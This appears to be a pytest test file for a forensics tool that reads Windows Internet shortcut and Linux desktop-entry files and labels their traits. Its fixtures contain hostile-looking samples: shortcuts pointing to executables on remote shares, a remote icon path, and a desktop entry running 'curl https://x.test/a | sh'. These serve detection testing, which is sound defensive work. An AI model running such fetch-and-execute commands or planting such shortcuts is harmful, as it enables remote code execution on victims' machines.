import pytest

from bartizan.forensics.examination import Sign, Trait


def test_a_shortcut_to_the_web(read):
    reading = read(b"[InternetShortcut]\r\nURL=https://x.test/\r\n")
    assert reading.signs == (Sign(Trait.LINK, "https://x.test/"),)
    assert reading.urls == ("https://x.test/",)


@pytest.mark.parametrize(
    "target",
    ["file://10.0.0.1/s/a.exe", r"\\\\10.0.0.1\\s\\a.js", "search-ms:query=x", "file:///c:/a"],
)
def test_a_shortcut_that_runs_something(read, traits, target):
    assert traits(read(f"[InternetShortcut]\nURL={target}\n".encode())) == ["command"]


def test_an_icon_from_another_machine(read, traits):
    content = b"[InternetShortcut]\nURL=https://x.test/\nIconFile=\\\\10.0.0.1\\s\\a.ico\n"
    assert traits(read(content)) == ["external-link", "link"]


def test_a_desktop_entry(read, traits):
    content = b"[Desktop Entry]\nType=Application\nExec=sh -c 'curl https://x.test/a | sh'\n"
    assert traits(read(content)) == ["command", "download"]


def test_lines_without_meaning(read):
    assert read(b"[InternetShortcut]\n" + b"a=" * 50_000).signs == ()
